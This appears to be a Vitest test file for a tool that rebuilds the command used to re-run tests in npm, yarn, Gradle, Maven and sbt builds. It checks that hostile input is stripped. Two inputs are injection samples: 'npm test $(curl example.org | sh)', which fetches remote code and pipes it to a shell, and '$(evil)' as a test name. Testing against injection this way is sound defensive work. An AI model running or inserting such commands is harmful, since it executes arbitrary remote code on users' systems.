import { describe, expect, it } from 'vitest';
import { findScriptCall, getJvmTestCommand, getScriptTestCommand } from '../../src/fix/test-command.ts';

describe('the command that runs the tests again', () => {
  it('takes from a command only words that mean nothing to a shell', () => {
    expect(findScriptCall('cd web && npm run test:ci')).toBe('npm run test:ci');
    expect(findScriptCall('npm test $(curl example.org | sh)')).toBe('npm test');
    expect(findScriptCall('make test')).toBeUndefined();
  });

  it('runs one file as the build does', () => {
    expect(getScriptTestCommand('npm test', 'test/a b.test.js')).toBe("npm test -- 'test/a b.test.js'");
    expect(getScriptTestCommand('yarn test', 'test/a.test.js')).toBe('yarn test test/a.test.js');
    expect(getScriptTestCommand(undefined, undefined)).toBe('npm test');
  });

  it.each([
    ['./gradlew build', 'OrderTest > adds()', "./gradlew test --tests '*OrderTest*'"],
    ['mvn verify', 'adds(com.acme.OrderTest)', 'mvn --batch-mode test -Dtest=OrderTest'],
    ['mvn verify', 'com.acme.OrderTest.adds', 'mvn --batch-mode test -Dtest=OrderTest'],
    ['sbt test', undefined, 'sbt test'],
    [undefined, '$(evil)', 'mvn --batch-mode test'],
  ])('for %s and %s is %s', (command, test, expected) => {
    expect(getJvmTestCommand(command, test)).toBe(expected);
  });
});
